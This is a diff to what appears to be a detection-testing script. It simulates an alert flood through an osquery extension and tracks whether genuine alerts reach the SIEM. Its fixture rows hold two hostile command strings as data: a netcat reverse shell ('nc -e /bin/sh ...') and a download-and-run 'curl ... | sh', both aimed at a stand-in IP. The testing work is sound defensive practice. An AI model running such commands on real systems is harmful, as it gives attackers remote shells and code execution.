@@ -6,13 +6,15 @@
 // normal, so each stays bad), from a path and directory of control characters with an
 // argument list of them (37 kB of kept columns, rootsafe) and reasons of 1,400 three-byte
 // characters of her own words; her windows are bad too. alice has one bad row at noon and one
-// ten minutes before the end; bob one bad window. The rows are retained as the scorer retains
+// ten minutes before the end; bob one bad window. Among eve's rows, two thirds into the day,
+// her real alert: one `curl … | sh` (a row of another event, scored 0.21, not her lowest). The rows are retained as the scorer retains
 // them (state/scores.ts), a day of them, then:
 //  1. the day as osqueryd's schedule sees it: every `--tick` seconds the pack's `bad` query's
 //     answer as the table plugin makes it, with the context osqueryd sends (the time bound the
 //     query's strftime gives at that moment, colsUsed); its wire bytes, whether it passes the
 //     64 MB the extension refuses past, whether alice's rows are in it, and the rows the
-//     differential log would report (not in the previous answer): what reaches the SIEM;
+//     differential log would report (not in the previous answer): what reaches the SIEM, and
+//     which of eve's rows and distinct events were ever in an answer as rows of their own;
 //  2. at the end of the day, the real extension under the emulator (real SQLite): the pack's
 //     `bad` and `bad_windows` queries as written.
 //   node scripts/alert-flood.js [--rate 32000] [--tick 600] [--dist DIR]
@@ -81,6 +83,15 @@ const alicesRow = (i, time) => ({
   columns: '{"path":"/usr/bin/nc","cmdline":"nc -e /bin/sh 203.0.113.9 4444"}',
 });
 
+const evesCurl = (time) => ({
+  ...evesRow(0, time),
+  id: 'eve-curl',
+  event: 'exec /usr/bin/curl <- /bin/bash',
+  score: 0.21,
+  reasons: 'program `/usr/bin/curl` never seen before (rarity)',
+  columns: JSON.stringify({ pid: '31337', path: '/usr/bin/curl', cmdline: 'curl -s https://203.0.113.9/i | sh', auid: '1001', uid: '1001' }),
+});
+
 /** a Thrift map of strings per row: its header, and each key and value with their lengths */
 const wireBytes = (row) => 6 + Object.entries(row).reduce((n, [k, v]) => n + 8 + Buffer.byteLength(k) + Buffer.byteLength(v), 0);
 
@@ -103,11 +114,20 @@ async function main() {
     let aliceMissed = 0;
     let maxBytes = 0;
     let maxRows = 0;
+    const curlAt = begin + Math.floor((86400 * 2) / 3);
+    let curlMade = false;
+    /** eve's ids ever answered as a row of their own, and the tick her curl first was */
+    const answeredOnce = new Set();
+    let curlAnsweredTick = null;
     for (let now = begin + TICK; now <= end; now += TICK) {
       // the rows scored up to `now`, in time order
       const batch = [];
       for (; begin + made * every <= now; made++) batch.push(evesRow(made, Math.floor(begin + made * every)));
       for (; alicesMade < alice.length && alice[alicesMade] <= now; alicesMade++) batch.push(alicesRow(alicesMade, alice[alicesMade]));
+      if (!curlMade && curlAt <= now) {
+        batch.push(evesCurl(curlAt));
+        curlMade = true;
+      }
       batch.sort((a, b) => a.time - b.time);
       for (let i = 0; i < batch.length; i += 500) store.append(batch.slice(i, i + 500));
       const context = generateContext(
@@ -125,6 +145,8 @@ async function main() {
         bytes += wireBytes(row);
         rows++;
         if (row.subject === 'alice') alicesIn++;
+        if (row.subject === 'eve' && row.model !== 'held-back') answeredOnce.add(row.id);
+        if (row.id === 'eve-curl' && curlAnsweredTick === null) curlAnsweredTick = ticks;
         seen.add(JSON.stringify(row));
         if (bytes > REFUSED_PAST) {
           refused = true;
@@ -150,13 +172,18 @@ async function main() {
         phase: 'schedule',
         rate_per_day: RATE,
         tick_s: TICK,
-        eve_rows: made,
         ticks,
         refused_ticks: refusedTicks,
         ticks_alice_missing: aliceMissed,
         max_answer_bytes: maxBytes,
         max_answer_rows: maxRows,
         siem_rows_day: siem,
+        eve_rows_answered_once: answeredOnce.size,
+        eve_rows: made + (curlMade ? 1 : 0),
+        // eve's rows are two events: her flood's (one program, one line) and her curl
+        eve_events_answered_once: Number([...answeredOnce].some((id) => id !== 'eve-curl')) + Number(answeredOnce.has('eve-curl')),
+        curl_made_tick: Math.ceil((curlAt - begin) / TICK) - 1,
+        curl_first_answered_tick: curlAnsweredTick,
       }),
     );
 
